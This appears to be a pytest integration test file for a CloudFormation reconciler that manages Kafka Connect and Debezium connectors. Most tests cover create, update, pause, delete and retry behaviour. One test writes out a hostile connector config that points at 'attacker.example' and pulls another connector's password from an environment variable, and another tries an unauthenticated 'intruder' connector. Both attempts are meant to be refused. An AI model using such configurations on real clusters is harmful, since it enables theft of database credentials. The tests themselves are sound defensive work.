"""The reconciler's handler, called with the events CloudFormation sends, against real Kafka Connect and Debezium.

The connector is the one the Dev template declares (only its name, slot and topic prefix are changed, to keep it
apart from the end-to-end test, and its host and port point at the local PostgreSQL).
"""

from __future__ import annotations

import json
import logging
import time
import urllib.error
import urllib.request

import pytest

from tests.runtime import harness
from tests.runtime.cloudformation import Context, ResponseServer, event
from tests.runtime.conftest import WRONG_PASSWORD_CONNECTOR
from tests.runtime_code.lambda_modules import load
from tests.support import resources

reconciler = load("connector_reconciler")
NAME = "reconciler-accounts"


@pytest.fixture(scope="module")
def response_server():
    server = ResponseServer()
    yield server
    server.close()


@pytest.fixture(scope="module")
def declared(synthesized, runtime):
    """The Dev template's connector properties (as CloudFormation would pass them), pointed at the local services."""
    [(logical_id, resource)] = resources(synthesized.raw("dev", "Connect"), "Custom::KafkaConnector").items()
    properties = {k: v for k, v in resource["Properties"].items() if k != "ServiceToken"}
    config = {**properties["Config"], "database.hostname": "127.0.0.1", "database.port": str(runtime.postgres.port),
              "database.sslrootcert": str(runtime.postgres.ca_file),
              "slot.name": "reconciler_accounts", "topic.prefix": "reconciler.accounts"}
    # The template waits 15 s for a connector to hold its state; 5 s keeps this tier within its minutes.
    properties.update(ConnectUrl=runtime.connect_url, ConnectorName=NAME, Config=runtime.own_credentials(NAME, config),
                      TimeoutSeconds=180,
                      StableSeconds=5)
    return logical_id, properties


def call(request_type, properties, server, logical_id, **options):
    reconciler.handler(event(request_type, properties, response_url=server.url, logical_id=logical_id, **options),
                       Context())
    return server.responses[-1]


def test_create_update_no_op_pause_resume_and_delete(runtime, declared, response_server):
    logical_id, properties = declared
    created = call("Create", properties, response_server, logical_id)
    assert (created["Status"], created["PhysicalResourceId"], created["Data"]) == (
        "SUCCESS", NAME, {"Action": "created", "State": "RUNNING"})
    status = runtime.connect_json(f"/connectors/{NAME}/status")
    assert status["connector"]["state"] == "RUNNING" and [t["state"] for t in status["tasks"]] == ["RUNNING"]

    unchanged = call("Update", properties, response_server, logical_id, physical_id=NAME, old_properties=properties)
    assert unchanged["Data"] == {"Action": "unchanged", "State": "RUNNING"}

    changed = {**properties, "Config": {**properties["Config"], "heartbeat.interval.ms": "5000"}}
    updated = call("Update", changed, response_server, logical_id, physical_id=NAME, old_properties=properties)
    assert updated["Data"] == {"Action": "updated", "State": "RUNNING"}
    assert runtime.connect_json(f"/connectors/{NAME}/config")["heartbeat.interval.ms"] == "5000"

    paused = call("Update", {**changed, "DesiredState": "paused"}, response_server, logical_id, physical_id=NAME,
                  old_properties=changed)
    assert paused["Data"] == {"Action": "unchanged", "State": "PAUSED"}
    assert runtime.connect_json(f"/connectors/{NAME}/status")["connector"]["state"] == "PAUSED"

    resumed = call("Update", changed, response_server, logical_id, physical_id=NAME, old_properties=changed)
    assert resumed["Data"]["State"] == "RUNNING"
    assert runtime.connect_json(f"/connectors/{NAME}/status")["connector"]["state"] == "RUNNING"

    deleted = call("Delete", changed, response_server, logical_id, physical_id=NAME)
    assert (deleted["Status"], deleted["Data"]) == ("SUCCESS", {"Action": "deleted"})
    assert NAME not in runtime.connect_json("/connectors")


def test_a_connector_with_a_wrong_password_is_reported_with_the_database_answer(runtime, declared,
                                                                                 response_server, caplog):
    caplog.set_level(logging.INFO)
    logical_id, properties = declared
    config = {**runtime.own_credentials(WRONG_PASSWORD_CONNECTOR, properties["Config"]),
              "slot.name": "reconciler_wrong", "topic.prefix": "reconciler.wrong"}
    failed = call("Create", {**properties, "ConnectorName": WRONG_PASSWORD_CONNECTOR, "Config": config},
                  response_server, logical_id)
    assert failed["Status"] == "FAILED"
    assert "password authentication failed" in failed["Reason"]
    assert "not-the-password" not in failed["Reason"] and "not-the-password" not in caplog.text
    assert "reconciler-wrong" not in runtime.connect_json("/connectors")


def test_operations_succeed_through_a_real_rebalance(runtime, declared, response_server, caplog, monkeypatch):
    """A second worker joins while the connector is being changed, and the changes go to that worker: until it has
    joined the group it answers 503 on /health (and 404, or 409, for what it has not read); the reconciler retries
    until the worker is ready, then updates the connector through the new group."""
    caplog.set_level(logging.INFO)
    logical_id, properties = declared
    created = call("Create", properties, response_server, logical_id)
    assert created["Status"] == "SUCCESS", created
    joining = runtime.start_worker("connect-2", wait=False)
    port = int(joining.url.rsplit(":", 1)[1])
    assert _wait_for_port(port), joining.process.tail()
    changed = {**properties, "ConnectUrl": joining.url,
               "Config": {**properties["Config"], "heartbeat.interval.ms": "4321"}}
    monkeypatch.setenv("CONNECT_URL", joining.url)  # a reconciler deployed for the joining worker's address
    updated = call("Update", changed, response_server, logical_id, physical_id=NAME, old_properties=properties)
    assert (updated["Status"], updated["Data"]) == ("SUCCESS", {"Action": "updated", "State": "RUNNING"}), updated
    retried = [r.getMessage() for r in caplog.records if "(attempt " in r.getMessage()]
    assert retried, "the joining worker never asked to be retried: the retry path was not exercised"
    print("retried while the worker joined:", retried[:3])
    assert runtime.connect_json(f"/connectors/{NAME}/config")["heartbeat.interval.ms"] == "4321"
    call("Delete", changed, response_server, logical_id, physical_id=NAME)


def _wait_for_port(port: int, timeout: float = 60) -> bool:
    import socket

    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        with socket.socket() as probe:
            if probe.connect_ex(("127.0.0.1", port)) == 0:
                return True
        time.sleep(0.05)
    return False


def test_the_reconciler_refuses_another_connectors_credentials_and_another_connect(runtime, declared,
                                                                                   response_server):
    """The attack the security review described: a connector config reading another database's password, or an
    event pointing the reconciler at another Connect cluster. Both are refused before Connect is called."""
    logical_id, properties = declared
    stolen = {**properties, "ConnectorName": "reconciler-thief",
              "Config": {**properties["Config"], "database.hostname": "attacker.example",
                         "database.password": "${env:DBZ_PAYMENTS_CDC_PASSWORD}"}}
    refused = call("Create", stolen, response_server, logical_id)
    assert refused["Status"] == "FAILED"
    assert "database.password refers to ${env:DBZ_PAYMENTS_CDC_PASSWORD}, which is not connector " \
           "reconciler-thief's own" in refused["Reason"]
    elsewhere = call("Create", {**properties, "ConnectUrl": "http://127.0.0.1:1"}, response_server, logical_id)
    assert elsewhere["Status"] == "FAILED" and "is not this reconciler's Connect cluster" in elsewhere["Reason"]
    assert "reconciler-thief" not in runtime.connect_json("/connectors")


@pytest.mark.parametrize("credentials", [None, ("platform", "guessed"), ("admin", harness.REST_PASSWORD)],
                         ids=["none", "wrong-password", "wrong-user"])
def test_the_rest_api_refuses_whoever_lacks_the_platforms_credentials(runtime, credentials):
    """The attack: a host that reaches port 8083 (the workers' security group) writes a connector of its own. The
    real worker's basic-auth extension refuses it, and every read too, /health included."""
    attempts = [("POST", "/connectors", json.dumps({"name": "intruder", "config": {
                    "connector.class": "org.apache.kafka.connect.file.FileStreamSourceConnector"}}).encode()),
                ("GET", "/connectors", None), ("GET", "/health", None)]
    for method, path, body in attempts:
        request = harness.rest_request(f"{runtime.connect_url}{path}", method=method, data=body,
                                       credentials=credentials)
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(request, timeout=30)  # noqa: S310 - the local Connect worker
        assert refused.value.code == 401, (method, path)
    assert "intruder" not in runtime.connect_json("/connectors")


def _slots(runtime) -> set[str]:
    return set(filter(None, runtime.postgres.sql("postgres", "SELECT slot_name FROM pg_replication_slots").split("\n")))


def test_deleting_a_connector_declared_to_drop_its_slot_drops_it(runtime, declared, response_server):
    """Security review M2: a deleted connector's slot pins WAL until it is dropped. With ``slot_on_delete: drop``
    the reconciler has the real Debezium task drop it as the deletion stops it. (``retain``, the default, calls
    nothing more than a deletion: tests/runtime_code covers it.)"""
    slot_on_delete = "drop"
    logical_id, properties = declared
    slot = f"reconciler_slot_{slot_on_delete}"
    # A prefix of its own: Connect keeps a connector's offsets under its name and prefix, and Debezium refuses to
    # resume from offsets whose slot was dropped (what the default, retain, protects against).
    properties = {**properties, "SlotOnDelete": slot_on_delete,
                  "Config": {**properties["Config"], "slot.name": slot, "topic.prefix": f"slot.{slot_on_delete}"}}
    created = call("Create", properties, response_server, logical_id)
    assert created["Status"] == "SUCCESS", created
    harness.wait_until(lambda: slot in _slots(runtime), timeout=60, what=f"replication slot {slot}")
    deleted = call("Delete", properties, response_server, logical_id, physical_id=NAME)
    assert deleted["Status"] == "SUCCESS", deleted
    try:
        assert deleted["Data"] == {"Action": "deleted", "Slot": "dropped"}
        harness.wait_until(lambda: slot not in _slots(runtime), timeout=60, what=f"slot {slot} dropped")
    finally:
        if slot in _slots(runtime):
            runtime.postgres.sql("postgres", f"SELECT pg_drop_replication_slot('{slot}')")
